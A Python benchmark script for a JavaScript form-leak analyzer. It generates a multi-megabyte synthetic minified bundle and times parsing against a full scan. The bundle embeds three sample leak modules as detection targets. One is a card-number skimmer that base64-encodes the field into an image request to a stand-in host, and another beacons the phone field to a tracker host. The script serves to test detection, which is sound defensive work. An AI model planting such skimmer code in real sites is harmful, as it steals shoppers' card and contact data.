"""Throughput benchmark: a generated multi-megabyte minified one-line bundle, parse-only vs full scan.

    python bench/bench.py [--size-mb 5] [--out bench/out/bundle.min.js] [--repeat 1] [--seed 1]

The bundle is produced by `generate()` below (all code in it is synthetic, written for this benchmark): a
webpack-5-like runtime `(()=>{var e={ID:function(e,t,n){...},...},r={};function n(t){...}...})()` holding
thousands of modules of realistic shapes, on a single line with single-letter names, plus a few real
pre-submit leaks (see `LEAKS`). Each measurement runs in a fresh subprocess so that `ru_maxrss` is the peak
of that measurement alone:

  (a) parse only: `tree_sitter.Parser(Language(tree_sitter_javascript.language())).parse(data)`
  (b) full scan:  `analyzer.engine.scan([a folder holding only the bundle])`

It prints a small table and, last, one JSON line with the figures.
"""
from __future__ import annotations

import argparse
import json
import os
import random
import shutil
import statistics
import subprocess
import sys
import tempfile
from pathlib import Path

HERE = Path(__file__).resolve().parent
REPO = HERE.parent

# ---------------------------------------------------------------------------------------------------------
# The embedded leaks. Each is a module body (parameters e,t,n = module, exports, require) plus what a
# finding for it must look like: the sink API, the field category and the trigger event.

LEAKS = [
    {
        "name": "billing-email-blur-fetch",
        "module": ('function(e,t,n){"use strict";var r=document.querySelector("#billing_email");'
                   'r&&r.addEventListener("blur",function(){var e=r.value;e&&e.indexOf("@")>0&&'
                   'fetch("/wp-admin/admin-ajax.php?action=wc_save_email&e="+encodeURIComponent(e),'
                   '{method:"GET",credentials:"same-origin"})})}'),
        "sink_api": "fetch", "category": "email", "trigger": "blur",
    },
    {
        "name": "cc-number-change-image-skimmer",
        "module": ('function(e,t,n){var r=document.getElementById("cc-number");'
                   'r&&r.addEventListener("change",function(e){var t=new Image;'
                   't.src="https://cdn-static-metrics.example/p.gif?d="+btoa(e.target.value)+"&r="+Math.random()})}'),
        "sink_api": "img.src", "category": "card_number", "trigger": "change",
    },
    {
        "name": "phone-input-beacon",
        "module": ('function(e,t,n){var r=document.querySelector("input[name=phone]");'
                   'r&&r.addEventListener("input",e=>{navigator.sendBeacon("https://collect.tracker.example/t",'
                   'JSON.stringify({p:e.target.value,u:location.pathname}))})}'),
        "sink_api": "navigator.sendBeacon", "category": "phone", "trigger": "input",
    },
]

# ---------------------------------------------------------------------------------------------------------
# Noise: module templates of realistic shapes. None of them sends a field value before submit.

_WORDS = ("cart", "item", "price", "total", "qty", "sku", "user", "token", "modal", "menu", "tab", "slide",
          "banner", "promo", "review", "rating", "size", "color", "stock", "ship", "tax", "coupon", "locale",
          "theme", "toast", "badge", "grid", "list", "filter", "sort", "page", "search", "wish", "compare")
_L = "abcdfghijklmopqsuvwxyz"  # single-letter names (e, t, n, r are taken by the module wrapper)


class _G:
    def __init__(self, rng: random.Random) -> None:
        self.r = rng

    def w(self) -> str:
        return self.r.choice(_WORDS)

    def n(self, lo: int = 0, hi: int = 999) -> int:
        return self.r.randint(lo, hi)

    def v(self) -> str:
        return self.r.choice(_L)

    def cls(self) -> str:
        return f"{self.w()}-{self.w()}__{self.w()}"

    # -- module bodies; each returns the code between `{` and `}` of `function(e,t,n){...}`
    def utility(self) -> str:
        a, b = self.n(2, 9), self.n(10, 99)
        return (f't.{self.v()}=function(e,t){{return e.reduce((e,n)=>e+n*t,{a})}},'
                f't.{self.v()}=(e,t={b})=>Math.max(0,Math.min(t,e|0)),'
                f't.{self.v()}=function(e){{var t=[],n=0;for(;n<e.length;n++)e[n]!=null&&t.push(e[n]);return t}},'
                f't.{self.v()}=e=>String(e).padStart({a},"0")')

    def dom(self) -> str:
        c = self.cls()
        return (f'var r=document.createElement("div");r.className="{c}";r.setAttribute("data-{self.w()}","{self.n()}");'
                f'r.innerHTML=`<span class="{self.w()}">${{{self.n()}}}</span>`;'
                f'var o=document.querySelectorAll(".{c} > li");for(var i=0;i<o.length;i++)o[i].style.width=(i*{self.n(1, 50)})+"px";'
                f'document.body&&document.body.appendChild(r)')

    def listener(self) -> str:
        c = self.cls()
        return (f'var r=document.querySelector(".{c}");r&&r.addEventListener("click",function(e){{e.preventDefault();'
                f'this.classList.toggle("is-open");var t=this.getAttribute("aria-expanded")==="true";'
                f'this.setAttribute("aria-expanded",String(!t))}});'
                f'window.addEventListener("resize",()=>{{document.documentElement.style.setProperty("--vh",'
                f'window.innerHeight*.01+"px")}},{{passive:!0}})')

    def fetcher(self) -> str:
        w = self.w()
        return (f't.{self.v()}=function(e){{return fetch("/api/{w}/"+encodeURIComponent(e)+"?v={self.n()}",'
                f'{{headers:{{Accept:"application/json"}},credentials:"same-origin"}}).then(e=>{{if(!e.ok)throw new Error('
                f'"HTTP "+e.status);return e.json()}}).then(e=>e?.data?.{w}s??[]).catch(e=>(console.warn(e),[]))}}')

    def json_store(self) -> str:
        k = f"{self.w()}_{self.n()}"
        return (f'var r="{k}";t.get=function(){{try{{return JSON.parse(localStorage.getItem(r))??{{}}}}catch(e){{return{{}}}}}};'
                f't.set=function(e){{try{{localStorage.setItem(r,JSON.stringify({{v:{self.n(1, 9)},d:e,t:Date.now()}}))}}'
                f'catch(e){{}}}}')

    def klass(self) -> str:
        a = self.w().capitalize()
        return (f'class {a[0]}{{#e=new Map;static s={self.n()};c=[];constructor(e={{}}){{this.o={{...e,k:"{self.w()}"}}}}'
                f'get size(){{return this.#e.size}}add(e,t){{this.#e.set(e,t);this.c.push(e);return this}}'
                f'*[Symbol.iterator](){{yield*this.#e}}static from(e){{return new {a[0]}(e)}}}}'
                f't.default={a[0]}')

    def closure(self) -> str:
        return (f't.{self.v()}=function(e,t){{var n=null,r=0;return function(){{var o=this,i=arguments,a=Date.now();'
                f'a-r>=t?(r=a,e.apply(o,i)):(clearTimeout(n),n=setTimeout(function(){{r=Date.now(),e.apply(o,i)}},'
                f't-(a-r)))}}}}')

    def promises(self) -> str:
        return (f't.{self.v()}=async function(e){{const t=await Promise.all(e.map(async e=>{{await new Promise(e=>'
                f'setTimeout(e,{self.n(1, 50)}));return e*{self.n(2, 7)}}}));return t.filter(Boolean)}};'
                f't.{self.v()}=function(){{return new Promise((e,t)=>{{var n=new XMLHttpRequest;n.open("GET",'
                f'"/static/{self.w()}.json");n.onload=()=>e(JSON.parse(n.responseText));n.onerror=t;n.send()}})}}')

    def strings(self) -> str:
        w = self.w()
        return (f't.{self.v()}=function(e,t){{var n="";for(var r in e)Object.prototype.hasOwnProperty.call(e,r)'
                f'&&(n+=(n?"&":"")+encodeURIComponent(r)+"="+encodeURIComponent(e[r]));return t+"?"+n}};'
                f't.{self.v()}=(e,t)=>`${{e}} {w} ${{t??"-"}} (${{"{w}".toUpperCase()}})`')

    def literals(self) -> str:
        xs = ",".join(str(self.n()) for _ in range(self.r.randint(4, 12)))
        return (f't.{self.v()}={{id:{self.n()},name:"{self.w()}",tags:["{self.w()}","{self.w()}"],nested:{{a:[{xs}],'
                f'b:{{c:!0,d:null,e:void 0}},"x-{self.w()}":{self.n()}.{self.n()}}},f:function(){{return this.id}}}};'
                f't.{self.v()}=[{xs}].map((e,t)=>({{i:t,v:e}}))')

    def control(self) -> str:
        cases = "".join(f'case"{self.w()}{i}":return {self.n()};' for i in range(self.r.randint(2, 6)))
        return (f't.{self.v()}=function(e){{switch(e){{{cases}default:return-1}}}};'
                f't.{self.v()}=function(e){{var t=0,n=e.length;while(n--)if(e[n]>{self.n()})t++;else if(e[n]<0)'
                f'break;else continue;do{{t>>=1}}while(t>{self.n(2, 9)});return t}};'
                f't.{self.v()}=function(e){{try{{return decodeURIComponent(e)}}catch(t){{return e}}finally{{}}}}')

    def modern(self) -> str:
        return (f'const r={self.n()}n**{self.n(2, 9)}n,o=/^[a-z{self.v()}]+\\d{{{self.n(1, 4)},}}$/gi,i=/\\/(?:{self.w()}|{self.w()})\\//;'
                f't.{self.v()}=e=>o.test(e?.{self.w()}?.trim()??"")&&!i.test(e);'
                f't.{self.v()}=(e,...t)=>{{const[n,,o=1]=t,{{a:r,b:{{c:i}}={{}}}}=e??{{}};return[n,o,r,i]}};'
                f't.{self.v()}=BigInt({self.n()})*r')

    def events_bus(self) -> str:
        return ('var r={};t.on=function(e,t){(r[e]||(r[e]=[])).push(t)};'
                't.off=function(e,t){r[e]=(r[e]||[]).filter(e=>e!==t)};'
                't.emit=function(e,...t){(r[e]||[]).slice().forEach(e=>e(...t))}')

    def analytics(self) -> str:
        # a page-view beacon: constant data, not a field value
        return (f'window.addEventListener("load",function(){{navigator.sendBeacon&&navigator.sendBeacon('
                f'"/collect/pv",JSON.stringify({{p:location.pathname,r:document.referrer,v:{self.n()}}}))}})')

    def submit_form(self) -> str:
        # a form that sends its fields on submit: a negative (it is *at* submit, not before)
        c = self.cls()
        return (f'var r=document.querySelector("form.{c}");r&&r.addEventListener("submit",function(e){{'
                f'e.preventDefault();var t=new FormData(r);fetch("/{self.w()}/subscribe",{{method:"POST",body:t}})'
                f'.then(e=>e.json()).then(e=>{{r.reset()}})}})')

    def require_user(self, ids: list[int]) -> str:
        a = self.r.choice(ids) if ids else 0
        return f'var u=n({a}),h=n.n(u)'

    def body(self, ids: list[int]) -> str:
        kinds = (self.utility, self.dom, self.listener, self.fetcher, self.json_store, self.klass, self.closure,
                 self.promises, self.strings, self.literals, self.control, self.modern, self.events_bus,
                 self.analytics, self.submit_form)
        k = self.r.choice(kinds)
        parts = [k()]
        if ids and self.r.random() < 0.3:
            parts.insert(0, self.require_user(ids))
        return ";".join(parts)


_RUNTIME_HEAD = "/*! app.bundle.js | generated by formleak bench */(()=>{var e={"
_RUNTIME_TAIL = ("},r={};function n(t){var o=r[t];if(void 0!==o)return o.exports;var i=r[t]={id:t,loaded:!1,"
                 "exports:{}};return e[t].call(i.exports,i,i.exports,n),i.loaded=!0,i.exports}"
                 "n.n=e=>{var t=e&&e.__esModule?()=>e.default:()=>e;return n.d(t,{a:t}),t},"
                 "n.d=(e,t)=>{for(var r in t)n.o(t,r)&&!n.o(e,r)&&Object.defineProperty(e,r,{enumerable:!0,get:t[r]})},"
                 "n.o=(e,t)=>Object.prototype.hasOwnProperty.call(e,t),"
                 "n.r=e=>{typeof Symbol<\"u\"&&Symbol.toStringTag&&Object.defineProperty(e,Symbol.toStringTag,"
                 "{value:\"Module\"}),Object.defineProperty(e,\"__esModule\",{value:!0})};")


def generate(size_mb: float = 5.0, seed: int = 1, leaks: list[dict] | None = None) -> str:
    """A single-line minified bundle of about `size_mb` MB (10**6 bytes) with the `LEAKS` embedded
    (one near the start, one in the middle, one near the end) and required by the entry code."""
    leaks = LEAKS if leaks is None else leaks
    rng = random.Random(seed)
    g = _G(rng)
    target = int(size_mb * 1_000_000)
    mods: list[str] = []
    ids: list[int] = []
    used: set[int] = set()
    size = len(_RUNTIME_HEAD) + len(_RUNTIME_TAIL) + 200

    def new_id() -> int:
        while True:
            i = rng.randint(10, 99999)
            if i not in used:
                used.add(i)
                return i

    noise: list[tuple[int, str]] = []
    while size < target:
        i = new_id()
        m = f"{i}:function(e,t,n){{{g.body(ids)}}}"
        noise.append((i, m))
        ids.append(i)
        size += len(m) + 1
    leak_ids = []
    for k, leak in enumerate(leaks):
        i = new_id()
        leak_ids.append(i)
        at = (len(noise) * (2 * k + 1)) // (2 * len(leaks)) if noise else 0
        noise.insert(at, (i, f"{i}:{leak['module']}"))
    mods = [m for _i, m in noise]
    entry = rng.sample(ids, min(len(ids), 40)) + leak_ids
    rng.shuffle(entry)
    boot = ";".join(f"n({i})" for i in entry)
    return _RUNTIME_HEAD + ",".join(mods) + _RUNTIME_TAIL + boot + "})();"


# ---------------------------------------------------------------------------------------------------------
# Measurements (each in a fresh subprocess)

_PARSE_CHILD = r"""
import json, resource, sys, time
from pathlib import Path
import tree_sitter, tree_sitter_javascript
data = Path(sys.argv[1]).read_bytes()
p = tree_sitter.Parser(tree_sitter.Language(tree_sitter_javascript.language()))
t0 = time.perf_counter()
tree = p.parse(data)
dt = time.perf_counter() - t0
print(json.dumps({"seconds": dt, "maxrss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
                  "has_error": tree.root_node.has_error}))
"""

_SCAN_CHILD = r"""
import json, resource, sys, time
from pathlib import Path
sys.path.insert(0, sys.argv[2])
from analyzer.engine import scan
t0 = time.perf_counter()
r = scan([Path(sys.argv[1])], budget_seconds=float(sys.argv[3]))
dt = time.perf_counter() - t0
print(json.dumps({"seconds": dt, "maxrss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
                  "complete": r.complete, "stats": r.stats,
                  "notifications": [[n.reason, n.message] for n in r.notifications],
                  "findings": [{"rule": f.rule_id, "api": f.sink_api, "categories": f.categories,
                                "triggers": f.trigger_names, "fields": f.fields, "where": f.sink.short(),
                                "function": f.function, "destination": f.destination} for f in r.findings]}))
"""

_BASE_CHILD = r"""
import json, resource, sys
sys.path.insert(0, sys.argv[1])
import tree_sitter, tree_sitter_javascript, analyzer.engine
print(json.dumps({"maxrss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss}))
"""


def _child(code: str, *args: str, timeout: float = 900) -> dict:
    p = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=timeout)
    if p.returncode != 0:
        raise RuntimeError(f"measurement subprocess failed (rc={p.returncode}):\n{p.stderr[-3000:]}")
    return json.loads(p.stdout.strip().splitlines()[-1])


def leaks_found(findings: list[dict], leaks: list[dict] | None = None) -> dict[str, dict | None]:
    """For each embedded leak, the finding that reports it (or None)."""
    leaks = LEAKS if leaks is None else leaks
    out = {}
    for leak in leaks:
        hit = next((f for f in findings if f["api"] == leak["sink_api"] and leak["category"] in f["categories"]
                    and leak["trigger"] in f["triggers"]), None)
        out[leak["name"]] = hit
    return out


def measure(bundle: Path, repeat: int = 1, budget: float = 600.0) -> dict:
    tmp = Path(tempfile.mkdtemp(prefix="formleak-bench-"))
    try:
        only = tmp / bundle.name
        try:
            os.link(bundle, only)
        except OSError:
            shutil.copyfile(bundle, only)
        base = _child(_BASE_CHILD, str(REPO))
        parses = [_child(_PARSE_CHILD, str(only)) for _ in range(repeat)]
        scans = [_child(_SCAN_CHILD, str(tmp), str(REPO), str(budget)) for _ in range(repeat)]
    finally:
        shutil.rmtree(tmp, ignore_errors=True)
    mb = bundle.stat().st_size / 1e6
    tp = statistics.median(p["seconds"] for p in parses)
    ts = statistics.median(s["seconds"] for s in scans)
    last = scans[-1]
    found = leaks_found(last["findings"])
    return {
        "mb": round(mb, 3), "repeat": repeat,
        "parse_s": round(tp, 4), "scan_s": round(ts, 3),
        "parse_mb_s": round(mb / tp, 2), "scan_mb_s": round(mb / ts, 3), "scan_over_parse": round(ts / tp, 1),
        "baseline_rss_mb": round(base["maxrss_kb"] / 1024, 1),
        "parse_peak_rss_mb": round(max(p["maxrss_kb"] for p in parses) / 1024, 1),
        "scan_peak_rss_mb": round(max(s["maxrss_kb"] for s in scans) / 1024, 1),
        "parse_has_error": parses[-1]["has_error"],
        "complete": last["complete"], "stats": last["stats"],
        "notifications": last["notifications"],
        "findings": len(last["findings"]),
        "leaks_found": {k: v is not None for k, v in found.items()},
        "all_leaks_found": all(v is not None for v in found.values()),
        "finding_list": last["findings"],
    }


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--size-mb", type=float, default=5.0, help="bundle size in MB (default 5)")
    ap.add_argument("--out", default=str(HERE / "out" / "bundle.min.js"), help="where to write the bundle")
    ap.add_argument("--repeat", type=int, default=1, help="measurements per kind; times are medians")
    ap.add_argument("--seed", type=int, default=1, help="generator seed (same seed, same bundle)")
    ap.add_argument("--budget", type=float, default=600.0, help="budget_seconds passed to scan()")
    a = ap.parse_args(argv)
    out = Path(a.out)
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_text(generate(a.size_mb, a.seed), encoding="utf-8")
    r = measure(out, a.repeat, a.budget)
    rows = [("bundle", f"{out} ({r['mb']:.2f} MB, 1 line)"),
            ("parse only", f"{r['parse_s']:.3f} s   {r['parse_mb_s']:.1f} MB/s   peak RSS {r['parse_peak_rss_mb']} MB"),
            ("full scan", f"{r['scan_s']:.2f} s   {r['scan_mb_s']:.3f} MB/s   peak RSS {r['scan_peak_rss_mb']} MB"),
            ("scan / parse", f"{r['scan_over_parse']}x"),
            ("import-only RSS", f"{r['baseline_rss_mb']} MB (interpreter + tree-sitter + analyzer)"),
            ("graph", ", ".join(f"{k} {v}" for k, v in r["stats"].items())),
            ("complete", str(r["complete"])),
            ("findings", str(r["findings"]))]
    w = max(len(k) for k, _ in rows)
    for k, v in rows:
        print(f"{k:<{w}}  {v}")
    for n in r["notifications"]:
        print(f"{'note':<{w}}  {n[0]}: {n[1]}")
    for f in r["finding_list"]:
        print(f"{'  finding':<{w}}  {f['rule']} {f['api']} {','.join(f['categories'])} on "
              f"{','.join(f['triggers'])} {f['fields']} at {f['where']} -> {f['destination']}")
    for name, ok in r["leaks_found"].items():
        print(f"{'  leak':<{w}}  {name}: {'FOUND' if ok else 'MISSED'}")
    summary = {k: v for k, v in r.items() if k not in ("finding_list", "notifications")}
    print(json.dumps(summary, sort_keys=True))
    return 0 if r["all_leaks_found"] else 1


if __name__ == "__main__":
    raise SystemExit(main())
